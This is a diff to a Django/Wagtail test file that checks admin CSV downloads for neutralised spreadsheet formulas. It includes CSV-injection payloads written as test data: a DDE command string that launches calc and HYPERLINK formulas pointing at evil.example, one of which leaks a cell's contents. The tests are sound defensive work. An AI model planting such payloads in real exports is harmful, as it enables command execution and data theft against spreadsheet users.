@@ -8,6 +8,7 @@ from wagtail.admin.viewsets import viewsets
 from wagtail.log_actions import log
 
 from benefits.models import Perk, Provider
+from config.text import FORMULA_STARTS
 from membership.admin_views import SafeSpreadsheetMixin
 from tests.factories import make_organisation
 
@@ -17,6 +18,14 @@ pytestmark = pytest.mark.django_db
 def _exportable():
     viewsets.populate() if not viewsets.viewsets else None
     return [viewset for viewset in viewsets.viewsets if isinstance(getattr(viewset, "list_export", None), list | tuple)]
+
+
+def _downloaded_cells(client, url: str) -> list[str]:
+    """The cells below the header of ``url``'s CSV download."""
+    response = client.get(url, {"export": "csv"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
+    return [cell for row in rows[1:] for cell in row]
 
 
 def test_every_listing_with_a_download_neutralises_its_cells(client):
@@ -36,13 +45,10 @@ def test_a_members_offer_is_no_formula_in_the_perks_download(back_office):
         value_line="-2+3+cmd|' /C calc'!A0",
         provider=provider,
     )
-    response = back_office.get("/admin/benefits/perks/", {"export": "csv"})
+    cells = _downloaded_cells(back_office, "/admin/benefits/perks/")
 
-    assert response.status_code == 200
-    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
-    cells = [cell for row in rows[1:] for cell in row]
     assert '\'=HYPERLINK("https://evil.example/?x="&B2,"Open")' in cells
-    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
 
 
 def test_wagtails_own_reports_are_neutralised_too(back_office):
@@ -50,10 +56,7 @@ def test_wagtails_own_reports_are_neutralised_too(back_office):
     organisation = make_organisation('=HYPERLINK("https://evil.example","Open")')
     log(organisation, "wagtail.edit")
 
-    response = back_office.get("/admin/reports/site-history/", {"export": "csv"})
+    cells = _downloaded_cells(back_office, "/admin/reports/site-history/")
 
-    assert response.status_code == 200
-    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
-    cells = [cell for row in rows[1:] for cell in row]
     assert '\'=HYPERLINK("https://evil.example","Open")' in cells
-    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
